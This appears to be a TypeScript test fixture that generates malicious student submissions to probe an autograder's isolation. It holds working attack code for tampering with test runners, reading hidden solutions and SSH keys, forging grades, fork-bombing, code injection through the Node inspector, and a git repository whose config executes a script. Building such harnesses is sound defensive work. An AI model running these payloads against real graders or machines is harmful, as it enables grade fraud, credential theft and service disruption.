/**
 * Dishonest submissions of notebook 01, one per attack class, built at test time against this
 * machine's real paths (a student has the kit's full source and can guess the rest). Each one
 * implements nothing: every exported function throws what the attack gathered ("LOOT ..."), so
 * anything it could read would reach the feedback, and any point above what a submission that
 * only throws scores (the "thrower": the tests that ask for an error) is a point stolen.
 */
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";

/** What the attacks aim at: the instructor's files and secrets. */
export interface Targets {
  course: string;
  out: string;
  kit: string;
  secretFile: string;
  listenPort: number;
  marker: string;
}

const EXPORTS = [
  "centralDifference",
  "sigmoidDerivative",
  "numericalGradient",
  "relativeError",
  "logisticLossAndGradient",
  "reverseModeGradient",
];

function module(
  t: Targets,
  body: string,
  exportsBody = "throw new Error(`LOOT ${loot}`);",
): string {
  return `/* eslint-disable */
import * as fs from "node:fs";
import * as path from "node:path";
const T = ${JSON.stringify(t)};
let loot = "";
function grab(what: string, f: () => unknown): void {
  try {
    loot += " " + what + "=" + String(f()).slice(0, 3000);
  } catch (e) {
    loot += " " + what + ":" + String((e as Error).message).slice(0, 60);
  }
}
${body}
${EXPORTS.map((e) => `export function ${e}(..._a: unknown[]): any { ${exportsBody.replace(/__NAME__/g, e)} }`).join("\n")}
`;
}

/**
 * SIGUSR1 makes a Node process open its inspector on 127.0.0.1:9229, and whoever connects runs
 * code in it. The parent of a submission's process is the grading worker: signal it, claim to be
 * loaded, drop the host's own messages and return from the import, so that this process's event
 * loop runs; then connect and have the grader's process forge an override. Where there is no
 * parent to signal (a PID namespace's init, another user's process) it behaves like the thrower.
 */
function debuggerAttack(overrides: string): string {
  const payload = `process.getBuiltinModule("fs").appendFileSync(${JSON.stringify(overrides)}, "debugger,total,999,forged\\n")`;
  return `const net = require("node:net");
let signalled = false;
grab("signal", () => { if (process.ppid <= 1) throw new Error("no parent"); process.kill(process.ppid, "SIGUSR1"); signalled = true; return "sent"; });
function frame(text: string): Buffer {
  const p = Buffer.from(text);
  const head = p.length < 126 ? Buffer.from([0x81, 0x80 | p.length]) : Buffer.from([0x81, 0x80 | 126, p.length >> 8, p.length & 255]);
  return Buffer.concat([head, Buffer.alloc(4), p]); // a zero mask leaves the bytes as they are
}
function attack(tries: number): void {
  const s = net.connect(9229, "127.0.0.1", () => s.write("GET /json/list HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n"));
  let body = "";
  s.on("error", () => { if (tries > 0) setTimeout(() => attack(tries - 1), 50); });
  s.on("data", (d: Buffer) => {
    body += d;
    const id = /"id": "([\\w-]+)"/.exec(body);
    if (!id) return;
    s.destroy();
    const ws = net.connect(9229, "127.0.0.1", () => ws.write("GET /" + id[1] + " HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"));
    ws.on("error", () => undefined);
    ws.once("data", () => ws.write(frame(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression: ${JSON.stringify(payload)} } }))));
  });
}
if (signalled) {
  const realFs = require("node:fs");
  const write = realFs.writeSync;
  write(3, JSON.stringify({ t: "loaded", exports: ${JSON.stringify(EXPORTS)} }) + "\\n");
  realFs.writeSync = (fd: number, b: Buffer, ...rest: unknown[]) => (fd === 3 ? b.length : write(fd, b, ...rest));
  attack(10);
  throw new Error("the event loop is ours now");
}`;
}

/** name -> source of exercises/01-derivatives.ts */
export function attackSources(t: Targets): Record<string, string> {
  const sol = path.join(t.course, "solutions", "01-derivatives.ts");
  const hidden = path.join(t.kit, "grader/hidden/01-derivatives.grading.ts");
  const w = (file: string, text: string) =>
    `grab("write ${path.basename(file)}", () => fs.appendFileSync(${JSON.stringify(file)}, ${JSON.stringify(text)}));`;
  return {
    hook: module(
      t,
      `grab("hook", () => { const v = require("vitest"); v.afterEach((ctx: any) => { ctx.task.result = { state: "pass" }; }); return "registered"; });
grab("runner", () => { const r = require("@vitest/runner"); return typeof r.getCurrentTest(); });`,
    ),
    rpc: module(
      t,
      `grab("rpc", () => { const w = (globalThis as any).__vitest_worker__; w.rpc.onTaskUpdate = async () => undefined; return "patched"; });`,
    ),
    solutions: module(
      t,
      `grab("solution", () => fs.readFileSync(${JSON.stringify(sol)}, "utf8"));
grab("via node_modules", () => fs.readFileSync(path.join(require.resolve("seedrandom"), "../../../solutions/01-derivatives.ts"), "utf8"));
grab("kit solution", () => fs.readFileSync(${JSON.stringify(path.join(t.kit, "solutions/01-derivatives.ts"))}, "utf8"));
let real: any = null;
try { real = require(${JSON.stringify(sol)}); } catch {}`,
      "if (real) return real.__NAME__(..._a); throw new Error(`LOOT ${loot}`);",
    ),
    hidden: module(
      t,
      `grab("hidden", () => fs.readFileSync(${JSON.stringify(hidden)}, "utf8"));
grab("kit listing", () => fs.readdirSync(${JSON.stringify(t.kit)}, { recursive: true }).join(","));`,
    ),
    writes: module(
      t,
      [
        w(path.join(t.out, "overrides.csv"), "writes,total,999,forged\n"),
        w(path.join(t.out, "gradebook.csv"), "writes,999\n"),
        w(path.join(t.kit, "grader/harness/checks.ts"), "\nexport const owned = 1;\n"),
        w(path.join(t.course, "node_modules/seedrandom/index.js"), "\n// owned\n"),
        w(path.join(t.out, "results/honest.json"), " "),
      ].join("\n"),
    ),
    background: module(
      t,
      `const cp = require("node:child_process");
grab("spawn", () => cp.spawn("/bin/sh", ["-c", "sleep 3; echo owned >> " + ${JSON.stringify(path.join(t.out, "gradebook.csv"))} + "; sleep 60 # " + T.marker], { detached: true, stdio: "ignore" }).unref());
grab("exec", () => cp.execSync("id").toString());
grab("worker", () => new (require("node:worker_threads").Worker)("setInterval(() => {}, 1000)", { eval: true }));`,
    ),
    forkbomb: module(
      t,
      `const cp = require("node:child_process");
grab("fork", () => { for (let i = 0; i < 50; i++) cp.spawn(process.execPath, ["-e", "for(;;){} // " + T.marker], { detached: true, stdio: "ignore" }).unref(); return "forked"; });`,
    ),
    exfiltrate: module(
      t,
      `grab("env", () => JSON.stringify(process.env));
grab("ssh", () => fs.readFileSync(${JSON.stringify(t.secretFile)}, "utf8"));
grab("passwd", () => fs.readFileSync("/etc/passwd", "utf8"));
grab("home", () => fs.readdirSync(require("node:os").homedir()).join(","));`,
    ),
    network: module(
      t,
      `const net = require("node:net");
grab("connect", () => { const s = net.connect(T.listenPort, "127.0.0.1", () => s.end("owned " + T.marker)); s.on("error", () => undefined); return "connecting"; });
grab("dns", () => { require("node:dns").lookup("localhost", () => undefined); return "asked"; });`,
    ),
    memory: module(
      t,
      `const keep: Buffer[] = [];
for (let i = 0; i < 30; i++) { const b = Buffer.alloc(100 * 2 ** 20); b.fill(1); keep.push(b); }
loot += " allocated " + keep.length * 100 + " MiB";`,
    ),
    debugger: module(t, debuggerAttack(path.join(t.out, "overrides.csv"))),
    loop: module(t, 'for (;;) { loot += ""; }'),
    promise: module(t, "", "return new Promise(() => undefined);"),
  };
}

/** git with a committer of its own, its output trimmed. */
export function git(cwd: string, ...args: string[]): string {
  return execFileSync("git", ["-c", "user.name=s", "-c", "user.email=s@x", ...args], {
    cwd,
    encoding: "utf8",
    stdio: ["ignore", "pipe", "ignore"],
  }).trim();
}

/**
 * A git repository at `work` (bare: at `work`.git) holding exercises/01-derivatives.ts, whose
 * HEAD is a signed commit of 2023-11-14T22:13:20Z and whose own config has git run `evil` on
 * a plain `git log` (to check that signature) and on any status (fsmonitor).
 */
export function writeHostileRepo(work: string, evil: string, bare: boolean): void {
  fs.mkdirSync(path.join(work, "exercises"), { recursive: true });
  fs.writeFileSync(path.join(work, "exercises/01-derivatives.ts"), "export const x = 1;\n");
  git(work, "init", "--quiet");
  git(work, "add", ".");
  git(work, "commit", "--quiet", "-m", "work");
  const tree = git(work, "rev-parse", "HEAD^{tree}");
  const parent = git(work, "rev-parse", "HEAD");
  const who = "s <s@x> 1700000000 +0000";
  const signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n AAAA\n -----END PGP SIGNATURE-----";
  const commit = `tree ${tree}\nparent ${parent}\nauthor ${who}\ncommitter ${who}\n${signature}\n\nsigned\n`;
  const file = path.join(work, ".git", "commit.txt");
  fs.writeFileSync(file, commit);
  git(work, "update-ref", "HEAD", git(work, "hash-object", "-t", "commit", "-w", file));
  fs.rmSync(file);
  const gitDir = bare ? `${work}.git` : path.join(work, ".git");
  if (bare) git(path.dirname(work), "clone", "--quiet", "--bare", work, gitDir);
  const config = { "log.showSignature": "true", "gpg.program": evil, "core.fsmonitor": evil };
  for (const [k, v] of Object.entries(config)) git(work, "--git-dir", gitDir, "config", k, v);
  if (bare) fs.rmSync(work, { recursive: true });
}

/** Write each attack as a submission folder of `dir`; also an honest one and an untouched stub. */
export function writeAttacks(dir: string, t: Targets): string[] {
  const write = (student: string, text: string) => {
    const file = path.join(dir, student, "exercises", "01-derivatives.ts");
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, text);
  };
  const sources = attackSources(t);
  for (const [name, text] of Object.entries(sources)) write(name, text);
  write("honest", fs.readFileSync(path.join(t.course, "solutions/01-derivatives.ts"), "utf8"));
  write("stub", fs.readFileSync(path.join(t.course, "exercises/01-derivatives.ts"), "utf8"));
  // the baseline an attack is measured against: honest, implements nothing, throws everywhere
  write("thrower", module(t, ""));
  // a repository whose exercises/ links to the course's solutions and whose own git config has
  // any git command run on it forge an override
  const linked = path.join(dir, "linked");
  const evil = path.join(dir, "evil.sh");
  const forge = `echo linked,total,999,forged >> '${path.join(t.out, "overrides.csv")}'`;
  fs.writeFileSync(evil, `#!/bin/sh\n${forge}\n`, { mode: 0o755 });
  writeHostileRepo(linked, evil, false);
  fs.rmSync(path.join(linked, "exercises"), { recursive: true });
  fs.symlinkSync(path.join(t.course, "solutions"), path.join(linked, "exercises"));
  return [...Object.keys(sources), "linked"];
}
